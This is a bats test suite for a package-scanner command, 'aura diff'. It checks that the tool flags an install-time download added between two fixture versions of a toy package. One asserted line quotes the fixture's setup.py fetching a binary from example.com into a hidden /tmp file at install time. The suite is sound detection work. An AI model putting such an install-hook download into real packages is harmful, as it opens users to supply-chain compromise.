#!/usr/bin/env bats
# 57-diff.bats: `aura diff` — two hand-made versions of a package, the second adding an
# install-time download (tests/fixtures/diff/), from a scan and from the database.
load helpers/common

FIX="$AURA_ROOT/tests/fixtures/diff"

setup() { cd "$AURA_ROOT"; }

# Compare $output with tests/golden/diff/$1; AURA_UPDATE_GOLDEN=1 rewrites it instead
# (review the diff before committing).
golden() {
	if [ -n "${AURA_UPDATE_GOLDEN:-}" ]; then
		printf '%s\n' "$output" > "$AURA_ROOT/tests/golden/diff/$1"
		return
	fi
	diff -u "$AURA_ROOT/tests/golden/diff/$1" <(printf '%s\n' "$output") || fail "output differs from tests/golden/diff/$1 (AURA_UPDATE_GOLDEN=1 regenerates it)"
}

# Both versions as sdists named like PyPI's, so fetch reads name and version off them.
make_archives() {
	tar -C "$FIX/tinyhttp-1.0" -czf "$BATS_TEST_TMPDIR/tinyhttp-1.0.tar.gz" .
	tar -C "$FIX/tinyhttp-1.1" -czf "$BATS_TEST_TMPDIR/tinyhttp-1.1.tar.gz" .
}

@test "diff: the new install-time download in 1.1 is the verdict on the change" {
	run -0 --separate-stderr aura diff tests/fixtures/diff/tinyhttp-1.0 tests/fixtures/diff/tinyhttp-1.1
	assert_line --index 0 "change  risk MEDIUM  score 80"
	assert_line --index 1 "  new in tinyhttp-1.1: urllib.request.urlretrieve() talks to the network at install time in setup.py; adds capabilities: network, file-write, install-hook"
	assert_output --partial "files: 1 added, 0 removed, 2 modified"
	assert_output --partial "+ added     tinyhttp/compat.py"
	assert_output --partial "~ modified  setup.py"
	assert_output --partial "new findings: 1"
	assert_output --partial '4 | urllib.request.urlretrieve("https://example.com/tinyhttp/helper.bin", "/tmp/.tinyhttp-helper")'
	assert_output --partial "gone findings: 0"
	# what 1.1 can do that 1.0 could not, and where
	assert_output --partial "  capabilities: 3 added, 0 removed"
	assert_output --partial "    + can: network (network access): setup.py:4"
	assert_output --partial "    + can: install-hook (runs code when installed or at interpreter start): setup.py:4"
	golden tinyhttp.txt
}

@test "diff: json is one diff record with files by path and sha256, and the new hits" {
	run -0 --separate-stderr aura diff --format json "$FIX/tinyhttp-1.0" "$FIX/tinyhttp-1.1"
	assert_valid_records
	assert_jq "$output" '.type == "diff" and .score == 80 and .risk == "medium" and .complete'
	assert_jq "$output" '[.old.score, .new.score, .old.risk, .new.risk] == [0, 80, "info", "medium"]'
	assert_jq "$output" '.files.added | map(.path) == ["tinyhttp/compat.py"]'
	assert_jq "$output" '.files.modified | map(.path) | sort == ["setup.py", "tinyhttp/__init__.py"]'
	assert_jq "$output" '.files.modified | all(.old_sha256 != .new_sha256 and (.new_sha256 | length) == 64)'
	assert_jq "$output" '.files.removed == []'
	assert_jq "$output" '.hits.new | length == 1 and .[0].name == "urllib.request.urlretrieve" and .[0].context == "install"'
	assert_jq "$output" '.hits.gone == []'
	assert_jq "$output" '[.capabilities.added[].id] == ["network","file-write","install-hook"] and .capabilities.removed == []'
	assert_jq "$output" '.capabilities.added[0].where == [{"path":"setup.py","line":4,"detection":"NetworkRequest"}]'
}

@test "diff: gates apply to the change; reversed, the finding is gone and the change is info" {
	run -1 aura diff --fail-level medium "$FIX/tinyhttp-1.0" "$FIX/tinyhttp-1.1"
	run -0 aura diff --fail-level high "$FIX/tinyhttp-1.0" "$FIX/tinyhttp-1.1"
	run -0 --separate-stderr aura diff --format json --fail-level low "$FIX/tinyhttp-1.1" "$FIX/tinyhttp-1.0"
	assert_jq "$output" '.score == 0 and .risk == "info" and (.hits.gone | length) == 1 and .files.removed[0].path == "tinyhttp/compat.py"'
	assert_jq "$output" '.reason == "no new findings in tinyhttp-1.0; 1 finding gone"'
	assert_jq "$output" '.capabilities.added == [] and [.capabilities.removed[].id] == ["network","file-write","install-hook"]'
}

@test "diff: the same version twice changes nothing" {
	run -0 --separate-stderr aura diff --format json "$FIX/tinyhttp-1.1" "$FIX/tinyhttp-1.1"
	assert_jq "$output" '.score == 0 and .hits.new == [] and .files == {"added":[],"removed":[],"modified":[]}'
}

@test "diff: findings are matched by detection, path and name, not by line" {
	mkdir -p "$BATS_TEST_TMPDIR/moved"
	cp -r "$FIX/tinyhttp-1.1/." "$BATS_TEST_TMPDIR/moved/"
	# the same download, three lines further down
	sed -i '1i # a comment\n# another\n# and one more' "$BATS_TEST_TMPDIR/moved/setup.py"
	run -0 --separate-stderr aura diff --format json "$FIX/tinyhttp-1.1" "$BATS_TEST_TMPDIR/moved"
	assert_jq "$output" '.hits.new == [] and .hits.gone == [] and .files.modified[0].path == "setup.py"'
}

@test "diff from the database: compare the stored scans of NAME 1.0 and 1.1" {
	make_archives
	local db="$BATS_TEST_TMPDIR/r.db"
	run -0 aura scan --db "$db" "$BATS_TEST_TMPDIR/tinyhttp-1.0.tar.gz"
	run -0 aura scan --db "$db" "$BATS_TEST_TMPDIR/tinyhttp-1.1.tar.gz"
	run -0 --separate-stderr aura diff --db "$db" --format json tinyhttp 1.0 1.1
	assert_jq "$output" '.score == 80 and .reason == "new in 1.1: urllib.request.urlretrieve() talks to the network at install time in ./setup.py; adds capabilities: network, file-write, install-hook"'
	assert_jq "$output" '.files.added | map(.path) == ["./tinyhttp/compat.py"]'
	assert_jq "$output" '[.old.artifact.version, .new.artifact.version] == ["1.0", "1.1"]'
	run -1 aura diff --db "$db" --fail-level medium tinyhttp 1.0 1.1
	assert_output --partial "new in 1.1: urllib.request.urlretrieve()"
	# a version never scanned: exit 2, said on stderr
	run -2 --separate-stderr aura diff --db "$db" tinyhttp 1.0 2.0
	[[ $stderr == *"no stored scan of 'tinyhttp==2.0'"* ]] || fail "$stderr"
	# a diff of two paths with --db also stores both scans
	run -0 aura diff --db "$db" "$BATS_TEST_TMPDIR/tinyhttp-1.0.tar.gz" "$BATS_TEST_TMPDIR/tinyhttp-1.1.tar.gz"
	run -0 python3 -c 'import sqlite3, sys; print(sqlite3.connect(sys.argv[1]).execute("select count(*) from artifacts").fetchone()[0])' "$db"
	assert_output 4
}

@test "diff: aura-score --diff needs exactly two artifacts; usage errors exit 2" {
	run -2 --separate-stderr bash -c "aura-fetch '$FIX/tinyhttp-1.0' | aura-unpack | aura-parse | aura-rewrite | aura-analyze | aura-score --diff"
	[[ $stderr == *"the stream holds 1 artifacts; expected two"* ]] || fail "$stderr"
	run -2 aura diff "$FIX/tinyhttp-1.0"
	run -2 aura diff tinyhttp 1.0 1.1
	run -2 aura diff --format sarif "$FIX/tinyhttp-1.0" "$FIX/tinyhttp-1.1"
	run -2 aura-score --diff a b </dev/null
}
